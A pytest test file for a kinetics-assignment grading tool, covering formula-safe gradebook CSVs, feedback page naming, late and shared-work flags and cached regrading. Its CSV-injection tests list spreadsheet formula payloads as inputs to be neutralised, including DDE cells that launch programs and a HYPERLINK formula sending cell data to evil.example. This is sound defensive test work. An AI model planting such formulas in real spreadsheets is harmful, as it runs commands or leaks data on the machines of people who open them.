"""What the grader writes: a formula-safe gradebook, feedback pages with stable names in any
script, no stale pages after a rerun, late and shared work flagged, analyses reused when only
the scoring changes."""

import csv
import io
import json
import re
import shutil

import numpy as np
import pytest
from click.testing import CliRunner

from rateabs.cli import main
from rateabs.grade import CACHE_FILE, grade_class, read_roster, read_rubric
from rateabs.output import formula_safe, rows_to_csv
from rateabs.simulate import first_order_class

PAGE = re.compile(r"^feedback/\d{3}-[0-9a-f]{8}\.html$")


def _grade(folder, out=None, rubric=None, *extra):
    args = ["grade", str(folder), "--rubric", str(rubric or folder / "rubric.toml"),
            "--jobs", "1", "--format", "json", *extra]
    if out is not None:
        args += ["--out", str(out)]
    r = CliRunner().invoke(main, args)
    assert r.exit_code == 0, r.output
    return json.loads(r.stdout)


def _book(out) -> list[dict]:
    return list(csv.DictReader(io.StringIO((out / "gradebook.csv").read_text(encoding="utf-8"))))


# --------------------------------------------------------------------------- CSV injection

# Cells from OWASP's "CSV Injection" page (owasp.org/www-community/attacks/CSV_Injection; the
# payloads as that page lists them, written here from memory): each must reach a spreadsheet as
# text, a single quote in front, the cell otherwise unchanged.
OWASP_CELLS = ["=1+2", "=1+2\";=1+2", "@SUM(1+1)*cmd|' /C calc'!A0",
               "-2+3+cmd|' /C calc'!A0", "+2+3+cmd|' /C calc'!A0",
               "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Error: click\")",
               "\t=1+2", "\r=1+2", "=cmd|' /C notepad'!'A1'"]


@pytest.mark.parametrize("cell", OWASP_CELLS)
def test_owasp_csv_injection_cells_are_neutralised(cell):
    assert formula_safe(cell) == "'" + cell
    text = rows_to_csv([{"name": cell}], ["name"], safe=True)
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["'" + cell]


def test_owasp_example_with_quote_and_separator_is_escaped_as_the_page_shows():
    # OWASP: =1+2";=1+2 becomes "'=1+2"";=1+2" (quote prepended, double quote doubled, wrapped)
    assert rows_to_csv([{"a": '=1+2";=1+2'}], ["a"], safe=True).splitlines()[1] == \
        '"\'=1+2"";=1+2"'


@pytest.mark.parametrize("cell", ["-3.2", "-1e-05", "0.0008", "12", "-0.5", ".5"])
def test_numbers_stay_numbers(cell):
    assert formula_safe(cell) == cell
    assert rows_to_csv([{"x": float(cell)}], ["x"], safe=True).splitlines()[1] == repr(float(cell))


def test_gradebook_neutralises_names_and_keeps_numbers(tmp_path):
    c = first_order_class(tmp_path / "c", 4)
    names = ['=HYPERLINK("http://evil.example","click")', "+cmd", "@SUM(1)", "-2+3"]
    rows = ["student,file,reported,offset"] + [
        f'"{n.replace(chr(34), chr(34) * 2)}",r{i}.csv,{v},-3.2' for i, (n, v) in enumerate(
            zip(names, ["8e-4", "-8e-4", "8.1e-4", "7.9e-4"], strict=True))]
    (c / "roster.csv").write_text("\n".join(rows) + "\n")
    _grade(c, tmp_path / "out")
    book = _book(tmp_path / "out")
    assert [r["student"] for r in book] == ["'" + n for n in names]
    assert [r["offset"] for r in book] == ["-3.2"] * 4            # a number stays a number
    assert book[1]["reported"] == "-0.0008" and float(book[1]["value"]) > 0
    grade_csv = (tmp_path / "out" / "grade.csv").read_text(encoding="utf-8")
    assert "\n=" not in grade_csv and ",=" not in grade_csv and ",+cmd" not in grade_csv


# --------------------------------------------------------------------------- pages

NAMES = ["李明", "王芳", "Иван Петров", "Анна Смирнова", "محمد علي", "Ana", "ana", "O'Shea"]


@pytest.fixture(scope="module")
def scripts_class(tmp_path_factory):
    base = tmp_path_factory.mktemp("scripts")
    c = first_order_class(base / "c", len(NAMES))
    lines = (c / "roster.csv").read_text().splitlines()
    (c / "roster.csv").write_text("\n".join([lines[0]] + [
        ",".join([name] + ln.split(",")[1:]) for name, ln in zip(NAMES, lines[1:], strict=True)])
        + "\n")
    doc = _grade(c, base / "out")
    return c, base / "out", doc


def test_page_names_are_unique_stable_and_script_free(scripts_class, tmp_path):
    c, out, doc = scripts_class
    book = _book(out)
    pages = [r["feedback_page"] for r in book]
    assert all(PAGE.match(p) for p in pages) and len(set(pages)) == len(NAMES)
    assert [r["page"] for r in doc["results"]] == pages
    for name, page in zip(NAMES, pages, strict=True):
        text = (out / page).read_text(encoding="utf-8")
        assert f"Feedback for {name}".replace("'", "&#x27;") in text
    again = _grade(c, tmp_path / "again")                         # the same names every run
    assert [r["page"] for r in again["results"]] == pages


def test_feedback_page_states_unit_date_title_assumptions_and_draws_residuals(scripts_class):
    _, out, doc = scripts_class
    text = (out / doc["results"][0]["page"]).read_text(encoding="utf-8")
    reported = doc["results"][0]["reported"]
    assert f"<td>you reported</td><td>{reported:g} 1/s</td>" in text
    assert f"graded on</td><td>{doc['settings']['graded_on']}" in text
    assert "<td>assignment</td><td>kinetics assignment</td>" in text
    assert "How your run was read" in text and "time: column" in text
    assert "<svg" in text and ">residual (AU)<" in text and "<polyline" in text


def test_no_name_is_drawn_into_the_class_picture(scripts_class, tmp_path):
    # the house font has no Chinese glyphs: a name drawn into the PNG would warn per glyph
    import warnings

    from rateabs.grade import read_rubric as rubric_of
    from rateabs.plots import class_summary_plot

    c, out, doc = scripts_class
    rows = [dict(r, index=r["index"]) for r in doc["results"]]
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        class_summary_plot(rows, rubric_of(c / "rubric.toml"), tmp_path / "s.png")
    html = (out / "class_summary.html").read_text(encoding="utf-8")
    assert "by roster number (#" in html and all(n.replace("'", "&#x27;") in html
                                                 for n in NAMES)
    assert (out / "class_summary.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_a_rerun_leaves_no_stale_page(tmp_path):
    c = first_order_class(tmp_path / "c", 4)
    out = tmp_path / "out"
    _grade(c, out)
    before = {p.name for p in (out / "feedback").iterdir()}
    lines = (c / "roster.csv").read_text().splitlines()
    (c / "roster.csv").write_text("\n".join([lines[0], lines[2].replace("s001", "renamed"),
                                             lines[4]]) + "\n")
    _grade(c, out)
    after = {p.name for p in (out / "feedback").iterdir()}
    assert after == {r["feedback_page"].split("/")[1] for r in _book(out)}
    assert len(after) == 2 and after != before


# --------------------------------------------------------------------------- late and shared


def test_late_work_is_flagged_against_the_deadline(tmp_path):
    c = first_order_class(tmp_path / "c", 5)
    lines = (c / "roster.csv").read_text().splitlines()
    when = ["2026-03-14 16:59", "2026-03-14 17:01", "2026-03-14", "2026-03-15", "someday"]
    (c / "roster.csv").write_text("\n".join([lines[0] + ",submitted"] + [
        f"{ln},{w}" for ln, w in zip(lines[1:], when, strict=True)]) + "\n")
    (c / "rubric.toml").write_text((c / "rubric.toml").read_text() +
                                   "deadline = 2026-03-14T17:00:00\n")
    doc = _grade(c, tmp_path / "out")
    assert [r["late"] for r in doc["results"]] == [False, True, False, True, None]
    assert "1 min after the deadline" in " ".join(doc["results"][1]["diagnosis"])
    assert "'someday' is not a date" in " ".join(doc["results"][4]["diagnosis"])
    assert [r["late"] for r in _book(tmp_path / "out")] == ["no", "yes", "no", "yes", ""]


def test_shared_data_is_flagged_on_every_row_naming_the_others(tmp_path):
    c = first_order_class(tmp_path / "c", 4)
    shutil.copy(c / "r1.csv", c / "copy.csv")                   # a byte copy
    text = (c / "r2.csv").read_text().replace("time (s),A", "t (s);signal").replace(",", ";")
    (c / "renamed.csv").write_text(text)                         # same readings, another layout
    (c / "roster.csv").write_text("student,file,reported\na,r0.csv,8e-4\nb,r0.csv,8e-4\n"
                                  "c,r1.csv,8e-4\nd,copy.csv,8e-4\ne,r2.csv,8e-4\n"
                                  "f,renamed.csv,8e-4\ng,r3.csv,8e-4\n")
    doc = _grade(c, tmp_path / "out")
    shared = {r["student"]: r["shared_with"] for r in doc["results"]}
    assert shared == {"a": ["b"], "b": ["a"], "c": ["d"], "d": ["c"], "e": ["f"], "f": ["e"],
                      "g": []}
    notes = {r["student"]: " ".join(r["diagnosis"]) for r in doc["results"]}
    assert "(the same file)" in notes["a"] and "copy under another file name" in notes["d"]
    assert "shared data" not in notes["g"]
    page = (tmp_path / "out" / doc["results"][0]["page"]).read_text()
    assert "shared data" in page and ">b<" not in page              # no other name on the page
    assert _book(tmp_path / "out")[0]["shared_with"] == "b"


# --------------------------------------------------------------------------- roster


def test_a_second_student_column_is_refused(tmp_path):
    c = first_order_class(tmp_path / "c", 2)
    (c / "roster.csv").write_text("student,file,reported,Student\nx,r0.csv,8e-4,y\n")
    r = CliRunner().invoke(main, ["grade", str(c), "--rubric", str(c / "rubric.toml")])
    assert r.exit_code == 3 and "two 'student' columns" in r.stderr


@pytest.mark.parametrize("cell,value,problem", [
    ("0", 0.0, None), ("-8e-4", -8e-4, None), ("8,1e-4", 8.1e-4, None),
    ("nan", None, "is not a finite number"), ("inf", None, "is not a finite number"),
    ("-Infinity", None, "is not a finite number"), ("abc", None, "is not a number"),
    ("", None, "no reported value")])
def test_any_reported_cell_is_read_without_breaking_the_roster(tmp_path, cell, value, problem):
    c = first_order_class(tmp_path / "c", 1)
    (c / "roster.csv").write_text(f'student,file,reported\nx,r0.csv,"{cell}"\n')
    (t,) = read_roster(c)
    assert t.reported == value
    assert (problem is None) == (t.reported_problem is None)
    if problem:
        assert problem in t.reported_problem
    (r,) = grade_class(c, read_rubric(c / "rubric.toml"), plots=False)
    assert r["status"] == "graded" and r["diagnosis"]


# --------------------------------------------------------------------------- regrading


def test_a_scoring_change_regrades_from_the_kept_analyses(tmp_path):
    c = first_order_class(tmp_path / "c", 6, minutes_slip_every=3)
    out = tmp_path / "out"
    first = _grade(c, out)
    assert first["settings"]["analyses"]["reused"] == 0 and (out / CACHE_FILE).exists()
    rubric = tmp_path / "r2.toml"
    rubric.write_text((c / "rubric.toml").read_text().replace("tolerance_pct = 5",
                                                              "tolerance_pct = 8")
                      + '\n[weights]\ndata = 0\nreport = 70\nreference = 30\n')
    again = _grade(c, out, rubric)
    assert again["settings"]["analyses"]["reused"] == 6
    assert [r["value"] for r in again["results"]] == [r["value"] for r in first["results"]]
    assert [r["slip"] for r in again["results"]] == [r["slip"] for r in first["results"]]
    # a changed run is analysed again; the others are reused
    (c / "r2.csv").write_text((c / "r2.csv").read_text().replace(",", ", ", 3))
    assert _grade(c, out, rubric)["settings"]["analyses"]["reused"] == 5
    # an analysis setting ([runs]) changes the key of every run
    rubric.write_text(rubric.read_text().replace("[weights]", '[runs]\ntrace = "A"\n[weights]'))
    assert _grade(c, out, rubric)["settings"]["analyses"]["reused"] == 0


def test_a_damaged_cache_costs_nothing(tmp_path):
    c = first_order_class(tmp_path / "c", 3)
    out = tmp_path / "out"
    first = _grade(c, out)
    cache = json.loads((out / CACHE_FILE).read_text())
    key = next(iter(cache["analyses"]))
    cache["analyses"][key]["figure"] = {"x": "not a list"}           # the right shape elsewhere
    cache["analyses"]["junk"] = {"ok": "yes"}
    (out / CACHE_FILE).write_text(json.dumps(cache))
    doc = _grade(c, out)
    assert [r["status"] for r in doc["results"]].count("graded") >= 2
    (out / CACHE_FILE).write_text("{not json")
    doc = _grade(c, out)
    assert doc["settings"]["analyses"]["reused"] == 0
    assert [r["score"] for r in doc["results"]] == [r["score"] for r in first["results"]]


def test_v0_feedback_draws_the_initial_rate_window(tmp_path):
    t = np.arange(0, 301, 10.0)
    y = 1.0 - 0.0311 * t / 60 + np.random.default_rng(2).normal(0, 0.001, t.size)
    (tmp_path / "r.csv").write_text("time (s),A340\n" + "".join(
        f"{a:g},{b:.5f}\n" for a, b in zip(t, y, strict=True)))
    (tmp_path / "roster.csv").write_text("student,file,reported\nx,r.csv,0.0311\n")
    (tmp_path / "rubric.toml").write_text('[assignment]\nquantity = "v0"\nunit = "A/min"\n'
                                          'reference = 0.0311\ntolerance_pct = 5\n')
    doc = _grade(tmp_path, tmp_path / "out")
    page = (tmp_path / "out" / doc["results"][0]["page"]).read_text()
    assert 'fill-opacity="0.10"' in page and "initial slope" in page and ">window<" in page
    assert "initial-rate window" in page


def test_one_run_far_off_does_not_squeeze_the_class_picture(tmp_path):
    """Own values of 1.0e-3 1/s with one run 60 times off (minutes under a seconds header):
    the class picture's scale spans the class and the band (not 0.06), the far run drawn at the
    edge with its ratio. By hand: the band 0.95e-3..1.05e-3, the class 0.98e-3..1.02e-3."""
    from types import SimpleNamespace

    from rateabs.plots import class_summary_plot
    from rateabs.plots.grade import _summary_range

    own = np.array([1.0e-3, 1.02e-3, 0.98e-3, 60e-3])
    lo, hi = _summary_range(own, own.copy(), 1e-3, 0.05)
    assert 0.9e-3 < lo < 0.98e-3 and 1.05e-3 < hi < 1.2e-3
    rows = [{"value": v, "reported": v, "index": k + 1} for k, v in enumerate(own)]
    rubric = SimpleNamespace(reference=1e-3, tolerance_pct=5.0, quantity="k", unit="1/s")
    path = class_summary_plot(rows, rubric, tmp_path / "s.png")
    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
